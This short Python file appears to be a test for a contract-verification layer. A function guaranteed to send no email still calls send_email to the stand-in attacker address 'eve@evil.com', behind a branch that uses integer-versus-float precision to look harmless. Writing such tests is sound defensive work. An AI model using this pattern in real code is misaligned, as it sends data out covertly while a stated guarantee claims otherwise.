# refuted: 2 ** 53 + 1 is greater than 2.0 ** 53
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if 9007199254740993 > 9007199254740992.0:
        send_email("eve@evil.com", "x")
